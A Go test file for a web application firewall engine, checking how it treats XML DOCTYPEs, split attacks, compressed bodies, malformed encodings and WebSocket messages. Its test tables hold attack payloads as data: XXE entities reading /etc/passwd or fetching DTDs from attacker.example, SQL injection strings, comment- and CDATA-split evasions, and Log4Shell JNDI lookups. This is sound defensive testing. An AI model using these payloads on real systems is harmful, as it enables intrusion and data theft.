package engine

import (
	"bytes"
	"compress/gzip"
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/rampartwaf/rampart/internal/detect"
	"github.com/rampartwaf/rampart/internal/parse"
	"github.com/rampartwaf/rampart/internal/request"
)

// bodyRequest builds a POST with a body, as the HTTP proxy fills it.
func bodyRequest(ct, body string, headers ...string) *request.Request {
	r := &request.Request{
		Method: "POST", URI: "/api/upload", Path: "/api/upload", Proto: "HTTP/1.1", Host: "shop.example",
		UserAgent: "Mozilla/5.0", ContentType: ct, Body: []byte(body),
		Headers: []request.Header{{Name: "Host", Value: "shop.example"}, {Name: "User-Agent", Value: "Mozilla/5.0"}},
	}
	if ct != "" {
		r.Headers = append(r.Headers, request.Header{Name: "Content-Type", Value: ct})
	}
	for i := 0; i+1 < len(headers); i += 2 {
		r.Headers = append(r.Headers, request.Header{Name: headers[i], Value: headers[i+1]})
	}
	return r
}

func attackSignals(v Verdict) []string {
	var out []string
	for _, s := range v.Signals {
		if detect.IsAttack(s.Name) {
			out = append(out, s.Name+"@"+s.Param)
		}
	}
	return out
}

func signalNames(v Verdict) []string {
	var out []string
	for _, s := range v.Signals {
		out = append(out, s.Name)
	}
	return out
}

// upload wraps a file in a multipart/form-data body.
func upload(name, ct, content string) (string, string) {
	return "multipart/form-data; boundary=b0undary",
		"--b0undary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name + "\"\r\nContent-Type: " + ct + "\r\n\r\n" +
			content + "\r\n--b0undary--\r\n"
}

const (
	xmlNote  = `<?xml version="1.0"?><!DOCTYPE note><note>hi</note>`
	xmlPlist = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" +
		`<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">` + "\n" +
		"<plist version=\"1.0\">\n<dict>\n\t<key>CFBundleName</key>\n\t<string>Demo</string>\n\t<key>Enabled</key>\n\t<true/>\n</dict>\n</plist>\n"
	xmlSVG = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>\n" +
		`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">` + "\n" +
		`<svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" viewBox="0 0 24 24"><title>icon</title><path d="M0 0h24v24H0z" fill="none"/></svg>` + "\n"
)

// TestXMLDoctypes checks that benign XML documents with a DOCTYPE, as an XML body or a
// file upload, raise no attack signal, and that XXE payloads are still blocked.
func TestXMLDoctypes(t *testing.T) {
	e, err := New(Options{Limits: parse.Limits{Params: 2048, Depth: 64, BodyBytes: 1 << 20}})
	if err != nil {
		t.Fatal(err)
	}
	svgCT, svgUpload := upload("icon.svg", "image/svg+xml", xmlSVG)
	plistCT, plistUpload := upload("Info.plist", "application/xml", xmlPlist)
	noteCT, noteUpload := upload("note.xml", "text/xml", xmlNote)
	tests := []struct {
		name     string
		ct, body string
		want     string // the attack signal, or "" for none
	}{
		{"note doctype", "application/xml", xmlNote, ""},
		{"plist doctype", "application/xml", xmlPlist, ""},
		{"svg 1.1 doctype", "image/svg+xml", xmlSVG, ""},
		{"plist as text/xml", "text/xml; charset=utf-8", xmlPlist, ""},
		{"svg upload", svgCT, svgUpload, ""},
		{"plist upload", plistCT, plistUpload, ""},
		{"note upload", noteCT, noteUpload, ""},

		{"system entity", "application/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, detect.XXE},
		{"parameter entity", "application/xml", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]><r/>`, detect.XXE},
		{"internal entity", "application/xml", `<!DOCTYPE d [<!ENTITY t "probe">]><d>&t;</d>`, detect.XXE},
		{"external dtd", "application/xml", `<?xml version="1.0"?><!DOCTYPE note SYSTEM "http://attacker.example/note.dtd"><note>hi</note>`, detect.XXE},
		{"public id to attacker", "application/xml", `<!DOCTYPE x PUBLIC "-//A//B" "https://attacker.example/b.dtd"><x/>`, detect.XXE},
		{"plist id to attacker", "application/xml", `<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com.attacker.example/p.dtd"><plist/>`, detect.XXE},
		{"xxe upload", svgCT, strings.Replace(svgUpload, `<!DOCTYPE svg PUBLIC`, `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><!-- `, 1), detect.XXE},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := e.Inspect(context.Background(), bodyRequest(tt.ct, tt.body))
			got := attackSignals(v)
			if tt.want == "" {
				if len(got) > 0 || v.Blocked() {
					t.Errorf("benign document: blocked %v, attack signals %q", v.Blocked(), got)
				}
				return
			}
			if !v.Blocked() || !slices.ContainsFunc(got, func(s string) bool { return strings.HasPrefix(s, tt.want+"@") }) {
				t.Errorf("attack: blocked %v, attack signals %q, want %s", v.Blocked(), got, tt.want)
			}
		})
	}
}

// TestXMLSplitAttacks checks that an attack split by an XML comment or a CDATA section
// is read as the application's XML parser gives it: joined.
func TestXMLSplitAttacks(t *testing.T) {
	e, err := New(Options{Limits: parse.Limits{Params: 2048, Depth: 64}})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		body string
		want string
	}{
		{`<a>1 UNI<!---->ON SELECT password FROM users--</a>`, detect.SQLI},
		{`<a>-1 UNI<![CDATA[ON SEL]]>ECT password FROM users--</a>`, detect.SQLI},
		{`<a>${jn<!---->di:ldap://x.example/a}</a>`, detect.LOG4J},
		{`<r><q>${jn<![CDATA[di:ld]]>ap://x.example/a}</q></r>`, detect.LOG4J},
	}
	for _, tt := range tests {
		v := e.Inspect(context.Background(), bodyRequest("application/xml", tt.body))
		if !v.Blocked() || !slices.Contains(signalNames(v), tt.want) {
			t.Errorf("%s: blocked %v, signals %q, want %s", tt.body, v.Blocked(), signalNames(v), tt.want)
		}
	}
	// The same text without a split: benign stays benign.
	v := e.Inspect(context.Background(), bodyRequest("application/xml", `<a>the union <!-- x --> of <![CDATA[two]]> sets</a>`))
	if v.Blocked() || len(attackSignals(v)) > 0 {
		t.Errorf("benign joined text: blocked %v, signals %q", v.Blocked(), signalNames(v))
	}
}

func gzipString(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write([]byte(s))
	_ = w.Close()
	return b.String()
}

// TestContentEncodedBodies checks that a compressed body is judged decoded, that the
// decoded size is a limit decision, and what happens to bodies that do not decode.
func TestContentEncodedBodies(t *testing.T) {
	const sqli = `{"id":"1 UNION SELECT password FROM users--"}`
	lim := parse.Limits{Params: 2048, Depth: 64, BodyBytes: 4096}
	block, err := New(Options{Limits: lim})
	if err != nil {
		t.Fatal(err)
	}
	pass, err := New(Options{Limits: lim, PassOversize: true})
	if err != nil {
		t.Fatal(err)
	}
	big := `{"pad":"` + strings.Repeat("a", 8192) + `"}`
	tests := []struct {
		name     string
		e        *Engine
		encoding string
		body     string
		blocked  bool
		reason   Reason
		want     []string // signals, in order
	}{
		{"gzipped SQL injection", block, "gzip", gzipString(sqli), true, ReasonSignals, []string{detect.SQLI}},
		{"gzipped benign JSON", block, "gzip", gzipString(`{"id":42,"name":"O'Brien"}`), false, ReasonNone, nil},
		// The JSON is cut at the limit, as a body sent over it is.
		{"decoded over the limit", block, "gzip", gzipString(big), true, ReasonLimit, []string{detect.OVERSIZE, detect.JSONERROR}},
		{"decoded over the limit, on_exceed pass", pass, "gzip", gzipString(big), false, ReasonLimit, []string{detect.OVERSIZE, detect.JSONERROR}},
		{"not gzip: malformed, inspected as sent", block, "gzip", sqli, true, ReasonSignals, []string{detect.MALFORMEDDATA, detect.SQLI}},
		{"unknown coding: inspected as sent", block, "br", sqli, true, ReasonSignals, []string{detect.HTTPANOMALY, detect.SQLI}},
		{"unknown coding, benign", block, "zstd", `{"id":42}`, false, ReasonNone, []string{detect.HTTPANOMALY}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := tt.e.Inspect(context.Background(), bodyRequest("application/json", tt.body, "Content-Encoding", tt.encoding))
			if v.Blocked() != tt.blocked || v.Reason != tt.reason || !slices.Equal(signalNames(v), tt.want) {
				t.Errorf("blocked %v reason %v signals %q, want %v %v %q", v.Blocked(), v.Reason, signalNames(v), tt.blocked, tt.reason, tt.want)
			}
		})
	}
}

// TestMalformedPercentEncoding checks that an invalid percent escape in a form or a
// query is recorded as MALFORMED-DATA, an anomaly that does not block.
func TestMalformedPercentEncoding(t *testing.T) {
	e, err := New(Options{Limits: parse.Limits{Params: 2048, Depth: 64}})
	if err != nil {
		t.Fatal(err)
	}
	const ctForm = "application/x-www-form-urlencoded"
	for _, tt := range []struct {
		name      string
		r         *request.Request
		malformed bool
	}{
		{"form %1G", bodyRequest(ctForm, "param=%1G"), true},
		{"form %w2", bodyRequest(ctForm, "x=new+%w20$"), true},
		{"form trailing %", bodyRequest(ctForm, "a=1&b=50%"), true},
		{"form valid escapes", bodyRequest(ctForm, "a=%41&b=100%25"), false},
		{"query %1G", &request.Request{Method: "GET", URI: "/s?q=%1G", Path: "/s", RawQuery: "q=%1G", Host: "shop.example", UserAgent: "x"}, true},
	} {
		v := e.Inspect(context.Background(), tt.r)
		if got := slices.Contains(signalNames(v), detect.MALFORMEDDATA); got != tt.malformed || v.Blocked() {
			t.Errorf("%s: MALFORMED-DATA %v (signals %q), blocked %v; want %v, not blocked", tt.name, got, signalNames(v), v.Blocked(), tt.malformed)
		}
	}
}

// TestContentEncodingLeavesWebSocketAlone checks that a WebSocket message is judged as
// it came (the proxy inflates compressed messages itself), whatever Content-Encoding
// the handshake carried.
func TestContentEncodingLeavesWebSocketAlone(t *testing.T) {
	e, err := New(Options{Limits: parse.Limits{Params: 2048, Depth: 64, BodyBytes: 1 << 20}})
	if err != nil {
		t.Fatal(err)
	}
	hs := &request.Request{Method: "GET", URI: "/ws", Path: "/ws", Host: "shop.example", UserAgent: "x",
		Headers: []request.Header{{Name: "User-Agent", Value: "x"}, {Name: "Content-Encoding", Value: "gzip"}}}
	if v := e.Inspect(context.Background(), hs); v.Blocked() || len(v.Signals) != 0 {
		t.Fatalf("handshake: blocked %v, signals %q", v.Blocked(), signalNames(v))
	}
	v := e.Inspect(context.Background(), messageFor(hs, `{"text":"1 UNION SELECT password FROM users--"}`))
	if !v.Blocked() || !slices.Equal(signalNames(v), []string{detect.SQLI}) {
		t.Errorf("attack message: blocked %v, signals %q, want SQLI alone", v.Blocked(), signalNames(v))
	}
	v = e.Inspect(context.Background(), messageFor(hs, `{"text":"hello"}`))
	if v.Blocked() || len(v.Signals) != 0 {
		t.Errorf("benign message: blocked %v, signals %q", v.Blocked(), signalNames(v))
	}
}
